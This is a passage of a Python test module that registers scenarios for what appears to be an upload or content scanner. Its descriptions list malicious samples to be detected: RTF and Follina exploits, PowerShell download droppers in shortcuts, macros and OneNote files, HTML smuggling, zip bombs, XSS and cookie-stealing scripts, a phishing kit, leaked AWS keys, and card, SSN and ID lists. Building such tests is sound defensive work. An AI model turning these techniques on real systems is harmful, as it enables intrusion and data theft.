    ),
    Scenario(
        "cards-in-legacy-encodings",
        A,
        "standard",
        "card lists in Shift_JIS and cp1251 text",
        a_cards_in_legacy_encodings,
        ("W2",),
    ),
    Scenario("cards-in-pdf", A, "standard", "40 card numbers in a PDF's text", a_cards_in_pdf, ("W2",)),
    Scenario(
        "national-id-lists",
        A,
        "standard",
        "40 people's CPFs, Canadian SINs and Aadhaar numbers, each list's column named",
        a_national_id_lists,
        ("W2",),
        fast=True,
    ),
    Scenario(
        "cards-in-xlsb",
        A,
        "standard",
        "40 card numbers in an Excel binary workbook's shared strings",
        a_cards_in_xlsb,
        ("W2",),
        fast=True,
    ),
    Scenario(
        "ssns-as-numbers-xlsx",
        A,
        "standard",
        "60 employees' SSNs typed as numbers in a workbook, shown through Excel's SSN format",
        a_ssn_workbook,
        ("W2",),
    ),
    Scenario(
        "ssns-as-numbers-xls",
        A,
        "standard",
        "the same 60 SSNs in a legacy .xls over two sheets",
        a_ssn_legacy_workbook,
        ("W2",),
    ),
    Scenario(
        "rtf-packaged-executable",
        A,
        "standard",
        "an RTF letter packaging an executable named remittance.pdf, its hex split as exploit kits do",
        a_rtf_packaged_executable,
        ("I3",),
        fast=True,
    ),
    Scenario(
        "rtf-equation-exploit",
        A,
        "standard",
        "an RTF whose Equation Editor object refreshes itself on opening (\\objupdate)",
        a_rtf_equation_exploit,
        ("I3",),
    ),
    Scenario(
        "rtf-raw-object",
        A,
        "standard",
        "an RTF letter packaging an executable named remittance.pdf as raw bytes after \\binN",
        a_rtf_raw_object,
        ("I3",),
    ),
    Scenario(
        "html-smuggled-executable",
        A,
        "standard",
        "a page carrying a zip with an executable named as a PDF in base64, saved by the browser on opening",
        a_html_smuggling,
        ("I3",),
    ),
    Scenario(
        "iso-disguised-executable",
        A,
        "standard",
        "an ISO image holding an executable named Invoice_2291.pdf beside a decoy text",
        a_iso_disguised_executable,
        ("I3",),
        fast=True,
    ),
    Scenario(
        "shortcut-powershell-download",
        A,
        "standard",
        "a zipped Invoice_2291.pdf.lnk starting PowerShell hidden to download and run a script",
        a_shortcut_download,
        ("I3",),
    ),
    Scenario(
        "macro-dropper-docm",
        A,
        "standard",
        "a .docm whose Document_Open has PowerShell download a script and run it hidden",
        a_macro_dropper,
        ("I3",),
        fast=True,
    ),
    Scenario(
        "onenote-embedded-hta",
        A,
        "standard",
        "a OneNote section whose 'double-click to view' page embeds an HTA running a PowerShell download",
        a_onenote_hta,
        ("I3",),
        fast=True,
    ),
    Scenario(
        "packaged-and-compressed-payloads",
        A,
        "standard",
        "a zstd-compressed card dump, and a .deb whose data.tar.gz carries a malware sample",
        a_packaged_and_compressed_payloads,
        ("I3", "W2"),
        fast=True,
    ),
    Scenario(
        "follina-external-ole-link",
        A,
        "standard",
        "a .docx whose linked OLE object is an external page ending '!' (CVE-2022-30190), and its mhtml: form",
        a_follina_link,
        ("I3",),
        fast=True,
    ),
    Scenario(
        "remote-template-injection",
        A,
        "standard",
        "a .docx fetching its macro template from a server's bare address as it opens",
        a_remote_template,
        ("I3",),
    ),
    Scenario(
        "rtf-url-moniker-link",
        A,
        "standard",
        "an RTF linked object loading an HTA page through a URL moniker, updated on opening (CVE-2017-0199)",
        a_rtf_url_moniker,
        ("I3",),
    ),
    Scenario(
        "eicar-in-email",
        A,
        "free",
        "a zipped EICAR attached (base64) to an .eml",
        a_eicar_in_email,
        ("I3",),
    ),
    Scenario(
        "zip-bomb-overlapping", A, "free", "600 central entries over one 8 MiB kernel", a_zip_bomb, ("I3",)
    ),
    Scenario(
        "zip-bomb-nested",
        A,
        "free",
        "42.zip's shape: 3 levels of 10 zips over 8 MiB of zeros",
        a_nested_zip_bomb,
        ("I3",),
    ),
    Scenario("pdf-javascript", A, "standard", "a PDF with /OpenAction /JavaScript", a_pdf_js, ("I3",)),
    Scenario("docx-vba-project", A, "standard", "a .docx carrying vbaProject.bin", a_docx_vba, ("I3",)),
    Scenario(
        "xss-probe-onerror", A, "free", "an <img onerror=alert(document.domain)> page", a_xss_probe, ("I3",)
    ),
    Scenario(
        "markdown-raw-html",
        A,
        "free",
        "a README's raw <img onerror> after a line that only looks like a fence",
        a_markdown_raw_html,
        ("I3",),
    ),
    Scenario(
        "markdown-served-as-html",
        A,
        "free",
        "a fenced <script> in a .md stored as text/html",
        a_markdown_served_as_html,
        ("I3",),
    ),
    Scenario(
        "html-obfuscated-javascript",
        A,
        "free",
        "entity-encoded javascript: links in HTML",
        a_html_js,
        ("I3",),
    ),
    Scenario(
        "svg-obfuscated-javascript", A, "free", "a newline-split javascript: link in SVG", a_svg_js, ("I3",)
    ),
    Scenario("pe-named-jpg", A, "free", "a Windows executable named .jpg", a_pe_jpg, ("I3",), fast=True),
    Scenario(
        "cookie-theft-page",
        A,
        "free",
        "an inline script sending document.cookie away",
        a_cookie_theft,
        ("I3",),
    ),
    Scenario("svg-onload", A, "free", "an SVG that runs a script when opened", a_svg_onload, ("I3",)),
    Scenario("phishing-kit", A, "free", "a PayPal sign-in page posting elsewhere", a_phishing_kit, ("W1",)),
    Scenario(
        "hidden-trademark-stuffing",
        A,
        "free",
        "the provider's mark stuffed in hidden blocks and white-on-white text",
        a_hidden_trademark_stuffing,
        ("W6",),
    ),
    Scenario(
        "leaked-aws-key",
        A,
        "standard",
        "a deploy script with an AWS access key id",
        a_leaked_aws_key,
        ("W2",),
    ),
    Scenario(
        "leaked-aws-key-pair",
        A,
        "standard",
        "a CI script with an AWS access key id and its secret",
        a_leaked_aws_key_pair,
        ("W2",),
    ),
]

MATRIX_CONTAINERS = list(CONTAINERS)
MATRIX_PAYLOADS = list(PAYLOADS)


def matrix_uploads(rng: random.Random) -> list[Upload]:
    """Every container x payload (text containers only for text payloads)."""
    out = []
    for c in MATRIX_CONTAINERS:
        for p in MATRIX_PAYLOADS:
            if c == "utf-16" and p in ("eicar", "pe-as-jpg"):
                continue
            out.append(contained(c, p, rng))
    return out


def by_name() -> dict[str, Scenario]:
    names = [s.name for s in SCENARIOS]
    assert len(names) == len(set(names)), "scenario names must be unique"
    return {s.name: s for s in SCENARIOS}
